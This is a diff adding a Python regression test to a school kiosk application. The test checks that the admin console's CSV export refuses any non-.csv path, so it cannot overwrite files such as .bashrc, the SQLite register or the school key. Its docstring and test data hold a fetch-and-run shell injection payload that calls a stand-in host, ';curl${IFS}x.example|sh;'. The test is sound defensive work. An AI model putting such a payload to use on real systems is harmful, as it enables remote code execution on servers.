@@ -153,3 +153,30 @@ def test_a_label_sheet_is_never_written_through_a_planted_symlink(
     assert out.stat().st_mode & 0o077 == 0, oct(out.stat().st_mode)
     leftovers = [p.name for p in shared.iterdir() if p.name.endswith(".tmp") and not p.is_symlink()]
     assert leftovers == []
+
+
+# --- the console's exports: a file of any name on the server --------------------------------------
+
+
+@pytest.mark.parametrize("name", [".bashrc", "kiosk.sqlite3", "school.key", "config.toml"])
+def test_a_console_export_writes_only_a_csv_file(tmp_path: Path, name: str) -> None:
+    """The console's Export (and the phones list's) wrote its CSV to any path typed in "Save
+    as", and "Replace it" renamed it over any file the server's user may write. In the
+    browser (`kiosk admin --serve`) an admin, who has no shell on the server, could replace
+    the kiosk user's ``.bashrc`` with a register whose cell (a reason typed at the kiosk:
+    ``;curl${IFS}x.example|sh;``) is a command the next login runs, or the register's own
+    SQLite file (the kiosks then go on confirming events into the file just unlinked), or the
+    school key. An export is now only ever a ``.csv`` file; anything else is refused in a
+    sentence and left as it was."""
+    from kiosk.domain.errors import InvalidInput
+    from kiosk.ui.admin.files import write_text_file
+
+    target = tmp_path / name
+    target.write_text("kept\n")
+    with pytest.raises(InvalidInput, match=r"\.csv"):
+        write_text_file(str(target), "id,reason\n1,;curl${IFS}x.example|sh;\n", replace=True)
+    assert target.read_text() == "kept\n"
+    assert [p.name for p in tmp_path.iterdir()] == [name]
+
+    written = write_text_file(str(tmp_path / "Register.CSV"), "id\n", replace=False)
+    assert Path(written).read_bytes() == b"\xef\xbb\xbfid\n"
